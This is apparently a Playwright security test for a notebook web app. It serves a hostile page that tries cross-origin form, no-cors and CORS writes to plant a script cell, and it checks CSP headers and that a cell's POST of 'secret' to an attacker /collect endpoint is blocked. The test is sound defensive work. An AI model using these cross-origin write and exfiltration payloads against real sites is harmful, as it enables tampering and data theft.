import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { outputOf } from './cells';

// A page on another origin tries to plant a cell in notebooks/welcome.html the three ways a browser allows
// without the server's consent (issue 13, defect 1), and the app itself runs under its CSP without violations.

const planted = '<notebook><title>x</title><script id="1" type="module">document.title = "pwned"</script></notebook>';

function testServerNotebooks(baseURL: string): string {
	const port = new URL(baseURL).port;
	return JSON.parse(readFileSync(join(tmpdir(), `dph-test-server-${port}.json`), 'utf8')).notebooksDir;
}

/** JSON for inside a <script>: the planted body's own "</script>" must not end it. */
const js = (v: unknown) => JSON.stringify(v).replace(/</g, '\\u003c');

function hostilePage(target: string): string {
	return `<!doctype html><title>hostile</title>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink" action="${target}/api/notebooks/welcome">
<input name='${planted.slice(0, 60)}' value='${planted.slice(60)}'></form>
<script>
window.results = {};
const body = ${js(planted)};
const url = ${js(`${target}/api/notebooks/welcome`)};
const settle = (name, p) => p.then((r) => { results[name] = 'answered ' + r.status + ' ' + r.type; }, (e) => { results[name] = 'failed: ' + e.message; });
const sink = document.querySelector('iframe');
const formDone = new Promise((r) => { sink.addEventListener('load', r, { once: true }); setTimeout(r, 5000); });
document.getElementById('f').submit();
Promise.all([
  settle('noCorsPost', fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body })),
  settle('corsPut', fetch(url, { method: 'PUT', mode: 'cors', headers: { 'Content-Type': 'text/html' }, body })),
  settle('corsRead', fetch(url).then((r) => r.text().then(() => r))),
  formDone,
]).then(() => { document.title = 'done'; });
</script>`;
}

let hostile: Server;
let hostileOrigin = '';

test.beforeAll(async ({ baseURL }) => {
	const target = baseURL ?? '';
	hostile = createServer((_req, res) => {
		res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
		res.end(hostilePage(target));
	});
	await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
	hostileOrigin = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((r) => hostile.close(() => r())));

test('a page on another origin cannot replace a notebook: no-cors POST, text/plain form, CORS PUT', async ({
	page,
	baseURL,
}) => {
	const file = join(testServerNotebooks(baseURL ?? ''), 'welcome.html');
	const before = readFileSync(file, 'utf8');
	await page.goto(`${hostileOrigin}/`);
	await expect(page).toHaveTitle('done', { timeout: 15_000 });
	const results = await page.evaluate(() => (window as unknown as { results: Record<string, string> }).results);
	// no-cors hides the status from the page (opaque); what matters is the file below.
	expect(results.corsPut).toMatch(/^failed/);
	expect(results.corsRead).toMatch(/^failed/);
	expect(readFileSync(file, 'utf8')).toBe(before);
	expect(before).not.toContain('pwned');
});

test('the app runs under its Content-Security-Policy without violations, and its own save still works', async ({
	page,
}) => {
	const violations: string[] = [];
	page.on('console', (m) => {
		if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(`${page.url()}: ${m.text()}`);
	});
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (e) => {
			console.error(`Refused to load (CSP): ${e.violatedDirective} ${e.blockedURI}`);
		});
	});
	const first = await page.goto('/');
	const csp = first?.headers()['content-security-policy'] ?? '';
	expect(csp).toContain("frame-ancestors 'none'");
	expect(csp).toContain("connect-src 'self'");
	expect(first?.headers()['x-content-type-options']).toBe('nosniff');
	// Cross-origin isolation (wasm threads): the page and its compute worker get SharedArrayBuffer.
	expect(first?.headers()['cross-origin-opener-policy']).toBe('same-origin');
	expect(first?.headers()['cross-origin-embedder-policy']).toBe('require-corp');
	expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
	// The service-worker fallback for static hosts is served, and stays unregistered where the headers arrive.
	const coi = await page.request.get('/coi-serviceworker.js');
	expect(coi.ok()).toBe(true);
	expect(await coi.text()).toContain('Cross-Origin-Embedder-Policy');
	expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((r) => r.length))).toBe(0);
	await page.waitForLoadState('networkidle');
	await page.goto('/notebooks/welcome');
	await expect(outputOf(page, 'margin')).toContainText('optimal reward margin is 2.197');
	// A reload gets a 304, whose headers replace the cached page's: the page must still run.
	await page.reload();
	await expect(outputOf(page, 'margin')).toContainText('optimal reward margin is 2.197');
	for (const path of ['/train', '/score', '/sweeps', '/system', '/notebooks/loss-landscapes']) {
		await page.goto(path);
		await page.waitForLoadState('networkidle');
	}
	// The app's own save, from its own origin, is a PUT with text/html and passes the origin check.
	const saved = await page.evaluate(
		async (body) => {
			const r = await fetch('/api/notebooks/csp-save-check', {
				method: 'PUT',
				headers: { 'Content-Type': 'text/html; charset=utf-8' },
				body,
			});
			return r.status;
		},
		readFileSync('tests/fixtures/notebooks/cells-under-test.html', 'utf8'),
	);
	expect(saved).toBe(200);
	// A notebook cell cannot send the user's notebooks to another host.
	const exfiltrated = await page.evaluate(
		(url) =>
			fetch(url, { method: 'POST', mode: 'no-cors', body: 'secret' }).then(
				() => 'sent',
				(e: Error) => `blocked: ${e.message}`,
			),
		`${hostileOrigin}/collect`,
	);
	expect(exfiltrated).toMatch(/^blocked/);
	expect(violations.filter((v) => !v.includes('/collect'))).toEqual([]);
});
